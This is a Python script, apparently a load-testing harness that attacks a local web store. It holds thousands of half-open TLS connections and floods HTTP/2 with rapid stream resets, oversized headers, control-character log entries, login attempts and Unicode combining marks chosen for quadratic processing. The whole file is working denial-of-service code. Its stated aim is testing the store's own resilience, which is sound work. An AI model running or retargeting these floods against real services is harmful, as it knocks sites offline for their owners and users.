"""Who wants to stop a store with little: a program of its own, so that it takes no time of the visitors in the test.

`attacker.py half-open PORT SECONDS COUNT` keeps that many TLS connections of ten bytes open, from many addresses.
`attacker.py KIND PORT SECONDS ADDRESSES BYTES [COOKIE]` sends so many bytes a second over HTTP/2, where what was said once
is repeated by a number. It prints what it did as JSON."""

import json
import os
import resource
import select
import socket
import ssl
import struct
import sys
import time

from hpack import Encoder

HELLO = bytes.fromhex("16030102000100 01fc0303")[:10]
"""How a TLS connection begins."""
HANDSHAKE_BYTES = 700
"""What a new connection costs its opener, in the least."""
TLS_RECORD_BYTES = 22
WORD = "a" * 3_900
MARKS = "\u0301\u0323" * 970
"""Combining marks of alternating class, which some operations on text put in order in quadratic time."""


CONTEXT = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
CONTEXT.check_hostname, CONTEXT.verify_mode = False, ssl.CERT_NONE
CONTEXT.set_alpn_protocols(["h2"])


def headers(kind: str, cookie: str) -> tuple[list[tuple[str, str]], bytes]:
    """One request of a kind: what is named, and the body."""
    method, path, more, body = "GET", "/", [], b""
    match kind:
        case "log":
            more = [("user-agent", "\x01" * 3_900)]
        case "readyz":
            path = "/readyz"
        case "login":
            method, path, body = "POST", "/auth/login", b"email=a%40example.com&password=wrong+password"
            more = [("content-type", "application/x-www-form-urlencoded"), ("sec-fetch-site", "same-origin")]
        case "headers":
            more = [("cookie", f"a={WORD}")]
        case "marks":
            more = [("sec-fetch-site", MARKS)]
            method, path = "POST", "/auth/login"
        case "search":
            path, more = "/dashboard/orders?q=someone%40example", [("cookie", cookie)]
        case "refusals":
            method = "DELETE"
    named = [(":method", method), (":scheme", "https"), (":authority", "localhost"), (":path", path), *more]
    return named, body


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


class Connection:
    """One HTTP/2 connection; it reads and forgets."""

    def __init__(self, address: str, port: int) -> None:
        plain = socket.create_connection(("127.0.0.1", port), 10, source_address=(address, 0))
        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.tls = CONTEXT.wrap_socket(plain, server_hostname="localhost")
        self.encoder, self.stream = Encoder(), 1
        # Windows as wide as they get: whoever reads must not hold up what is asked.
        self.tls.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, struct.pack(">HI", 4, 0x7FFFFFFF))
                         + frame(8, 0, 0, struct.pack(">I", 0x7FFF0000)))
        self.tls.setblocking(False)

    def ask(self, kind: str, named: list[tuple[str, str]], body: bytes) -> int:
        """Sends one request, and says how many bytes that was."""
        text = frame(1, 4 if body else 5, self.stream, self.encoder.encode(named, huffman=False))
        if body:
            text += frame(0, 1, self.stream, body)
        if kind == "reset":
            text += frame(3, 0, self.stream, struct.pack(">I", 8))
        self.stream += 2
        self.drain()
        self.tls.send(text)
        return len(text) + TLS_RECORD_BYTES

    def drain(self) -> None:
        try:
            while self.tls.recv(65_536):
                pass
            raise ConnectionResetError
        except ssl.SSLWantReadError:
            pass


def address(place: int) -> str:
    return f"127.200.{place // 250}.{1 + place % 250}"


def flood(kind: str, port: int, seconds: float, addresses: int, rate: int, cookie: str) -> dict:
    """Every address has a connection; they take turns, so that together they send `rate` bytes a second."""
    named, body = headers(kind, cookie)
    places: list[Connection | None] = [
        None if kind == "handshakes" else Connection(address(place), port) for place in range(addresses)]
    print("full", flush=True)
    began, sent, asked, opened, turn = time.monotonic(), 0, 0, 0, 0
    while (now := time.monotonic() - began) < seconds:
        if sent >= now * rate:
            time.sleep(0.002)
            continue
        place, turn = turn % addresses, turn + 1
        try:
            if places[place] is None or kind == "handshakes":
                places[place] = Connection(address(place), port)
                sent, opened = sent + HANDSHAKE_BYTES, opened + 1
            if kind != "handshakes":
                sent, asked = sent + places[place].ask(kind, named, body), asked + 1
        except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
            sent += TLS_RECORD_BYTES
        except OSError:
            places[place] = None
            sent += TLS_RECORD_BYTES
    return {"asked": asked, "opened": opened, "bytes": sent, "seconds": now}


def hold_half_open(port: int, seconds: float, count: int) -> dict:
    """Opens one again as soon as one is closed, from 250 addresses for each thousand of them."""
    poll, held, opened, least = select.epoll(), {}, 0, None
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        for _ in range(min(500, count - len(held))):
            one = socket.socket()
            one.setblocking(False)
            one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            one.bind((f"127.201.{opened % 20}.{1 + opened // 20 % 250}", 0))
            one.connect_ex(("127.0.0.1", port))
            held[one.fileno()] = one
            poll.register(one, select.EPOLLOUT | select.EPOLLONESHOT)
            opened += 1
        for number, event in poll.poll(0.02):
            try:
                if event & (select.EPOLLHUP | select.EPOLLERR | select.EPOLLIN):
                    raise ConnectionResetError
                held[number].send(HELLO)
                poll.modify(number, select.EPOLLIN)
            except OSError:
                poll.unregister(number)
                held.pop(number).close()
        if len(held) >= count and least is None:
            print("full", flush=True)
            least = opened
    return {"opened": opened, "held": len(held)}


if __name__ == "__main__":
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    # The work of attackers is done elsewhere; here it is done on the store's own machine.
    os.nice(5)
    kind, port, seconds, count, *rest = sys.argv[1:]
    if kind == "half-open":
        print(json.dumps(hold_half_open(int(port), float(seconds), int(count))))
    else:
        print(json.dumps(flood(kind, int(port), float(seconds), int(count), int(rest[0]), *rest[1:] or [""])))
